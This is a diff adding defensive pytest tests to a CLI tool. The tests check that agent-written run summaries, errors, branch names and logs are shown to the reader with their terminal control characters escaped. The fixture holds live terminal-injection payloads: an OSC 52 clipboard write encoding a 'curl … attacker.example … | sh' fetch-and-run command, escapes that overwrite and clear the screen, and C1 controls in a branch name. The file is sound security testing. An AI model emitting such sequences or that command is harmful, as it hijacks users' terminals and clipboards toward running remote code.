@@ -2,11 +2,15 @@
 
 The runs are made by `routined fire` and given their results directly in the store,
 as a worker that finished them would; the commands run on SQLite and PostgreSQL.
+What an agent wrote reaches the reader's terminal inert: tried with a run's results
+written so, and end to end with a hostile agent CLI in the real sandbox.
 """
 
 from __future__ import annotations
 
+import asyncio
 import json
+import re
 from collections.abc import Iterator
 from datetime import timedelta
 from pathlib import Path
@@ -16,6 +20,7 @@ import pytest
 from sqlalchemy import update
 from typer.testing import CliRunner, Result
 
+from routined import runs
 from routined.cli import app
 from routined.config import Settings
 from routined.db import Store
@@ -182,6 +187,146 @@ def test_show_run_of_an_unknown_run_says_where_to_look(database: str) -> None:
     result = run("show-run", "run_nope")
     assert result.exit_code == 1
     assert "no run or session 'run_nope'; `routined runs` lists them" in result.output
+
+
+# An agent's words drive no terminal. The attack: an agent's summary wrote the reader's
+# clipboard through `routined show-run` (OSC 52, ended by ST), and cursor moves rewrote
+# what was shown above.
+
+CLIPBOARD = "\x1b]52;c;Y3VybCAtcyBodHRwczovL2F0dGFja2VyLmV4YW1wbGUveCB8IHNoCg==\x1b\\"
+HOSTILE = (
+    f"done\n{CLIPBOARD}"
+    "\x1b[1A\x1b[2Kall good"  # up a line, erase it, write over it
+    " \x1b[31mred\x1b[0m \x1b[H\x1b[2J"  # a colour; home and clear the screen
+    " \x1b]0;retitled\x07 ring\x07"  # a window title ended by BEL; a BEL
+    " \x9b2J \x9d52;c;QQ==\x9c \x90q\x9c \x85 \x7f\x08\r"  # C1's CSI, OSC, ST, DCS, NEL
+)
+# Every character that can drive a terminal: C0 but the line break, DEL, C1.
+CONTROLS = {chr(c) for c in [*range(0x20), *range(0x7F, 0xA0)]} - {"\n"}
+
+
+def inert(output: str) -> str:
+    """`output`, checked to hold no character that drives a terminal."""
+    found = sorted({f"U+{ord(c):04X}" for c in output if c in CONTROLS})
+    assert not found, f"{found} reach the terminal:\n{output!r}"
+    return output
+
+
+def add_events(url: str, run_id: str, *events: tuple[str, str | None, dict[str, Any]]) -> None:
+    store = Store(url)
+    try:
+        with store.transaction() as session:
+            for kind, reason, data in events:
+                runs.add_event(session, run_id, kind, now=T0, reason=reason, data=data)
+    finally:
+        store.dispose()
+
+
+@pytest.fixture
+def hostile(database: str, tmp_path: Path, origin: Path, monkeypatch: pytest.MonkeyPatch) -> str:
+    """A failed run whose summary, error, branch and events an agent wrote; its id."""
+    monkeypatch.setenv("COLUMNS", "1000")  # each field on a line of its own, not folded
+    apply(tmp_path, origin, "nightly")
+    run_id = fire("nightly")
+    finish(
+        database,
+        run_id,
+        status="failed",
+        started_at=T0,
+        finished_at=T0 + timedelta(seconds=30),
+        summary=HOSTILE,
+        error=f"agent_failed: {HOSTILE}",
+        branches=[{"repository": "app", "branch": "claude/x\x9b2J\x9d0;t\x9c", "sha": "0" * 40}],
+    )
+    add_events(
+        database,
+        run_id,
+        ("agent.assistant", None, {"content": [{"text": HOSTILE}]}),
+        ("agent.output", None, {"lines": HOSTILE.splitlines()}),
+        ("gate.passed", HOSTILE, {}),
+    )
+    return run_id
+
+
+def test_show_run_shows_what_the_agent_wrote_inert(hostile: str) -> None:
+    shown = inert(ok(run("show-run", hostile)))
+    # Each control character is written as JSON would write it; the rest is as sent.
+    for seen in (
+        "\\u001b]52;c;Y3VybCAtcyBodHRwczovL2F0dGFja2VyLmV4YW1wbGUveCB8IHNoCg==\\u001b\\",
+        "\\u001b[1A\\u001b[2Kall good",
+        "\\u001b[31mred\\u001b[0m",
+        "\\u001b]0;retitled\\u0007 ring\\u0007",
+        "\\u009b2J \\u009d52;c;QQ==\\u009c \\u0090q\\u009c \\u0085 \\u007f\\u0008\\u000d",
+        "claude/x\\u009b2J\\u009d0;t\\u009c",
+    ):
+        assert seen in shown, f"{seen!r} not in:\n{shown}"
+    # Summary and error keep their line breaks: "done", then the rest on a line of its own.
+    for field in ("Summary   done", "Error     agent_failed: done"):
+        assert re.search(f"{field} *│\n", shown), f"{field!r} not on its own line:\n{shown}"
+
+
+def test_the_run_list_and_the_logs_show_it_inert_too(hostile: str) -> None:
+    listed = inert(ok(run("runs")))
+    assert "\\u001b]52;c;" in listed and "claude/x\\u009b2J" in listed
+    logged = inert(ok(run("logs", hostile)))
+    assert logged.count("\\u001b]52;c;") == 3  # the assistant's text, its output, a reason
+    assert "\\u009d52;c;QQ==\\u009c" in logged
+
+
+def test_json_output_is_exact_and_inert(hostile: str) -> None:
+    shown = json.loads(inert(ok(run("show-run", hostile, "--json"))))
+    assert shown["summary"] == HOSTILE and shown["error"] == f"agent_failed: {HOSTILE}"
+    [listed] = json.loads(inert(ok(run("runs", "--json"))))
+    assert listed == shown
+    logged = [json.loads(line) for line in inert(ok(run("logs", hostile, "--json"))).splitlines()]
+    assert logged[-3]["data"] == {"content": [{"text": HOSTILE}]}
+    assert logged[-1]["reason"] == HOSTILE
+
+
+@pytest.mark.agent
+def test_a_hostile_agent_cli_cannot_drive_the_readers_terminal(
+    settings: Settings, origin: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """The attack itself: an agent CLI in the real sandbox says its last words with
+    escape sequences, and commits on a branch whose name holds C1 controls."""
+    from tests.test_agent_runs import routined, run_here
+
+    monkeypatch.setenv("COLUMNS", "1000")  # the commands' output, not folded
+
+    script = (
+        "import subprocess, sys\n"
+        "git = ['git', '-c', 'user.name=A', '-c', 'user.email=a@b']\n"
+        "subprocess.run([*git, 'checkout', '-q', '-b', 'claude/x\\x9b2J'], check=True)\n"
+        "open('hi.txt', 'w').write('hi')\n"
+        "subprocess.run([*git, 'add', 'hi.txt'], check=True)\n"
+        "subprocess.run([*git, 'commit', '-qm', 'hi'], check=True)\n"
+        f"sys.stdout.write({HOSTILE!r})\n"
+    )
+    path = tmp_path / "routines.yaml"
+    path.write_text(
+        "routines:\n"
+        "  - name: esc\n"
+        "    prompt: Report.\n"
+        f"    repositories: [{{url: {origin}}}]\n"
+        f"    agent: {{command: [python3, -c, {json.dumps(script)}]}}\n"
+    )
+    applied = routined(settings, "apply", "-f", str(path), check=False)
+    assert applied.returncode == 0, applied.stdout + applied.stderr
+    store = Store(settings.database_url.reveal())
+    try:
+        ended = asyncio.run(run_here(settings, store, "esc", None))
+    finally:
+        store.dispose()
+    assert ended.status == "succeeded", ended.error
+    assert ended.summary is not None and CLIPBOARD in ended.summary
+    assert any("\x9b" in branch["branch"] for branch in ended.branches), ended.branches
+    for command in (["show-run", ended.id], ["runs"], ["logs", ended.id]):
+        shown = inert(routined(settings, *command).stdout)
+        assert "\\u001b]52;c;" in shown or command == ["runs"], shown
+        assert "\\u009b2J" in shown, shown
+    assert json.loads(routined(settings, "show-run", ended.id, "--json").stdout)["summary"] == (
+        ended.summary
+    )
 
 
 # The setup cache
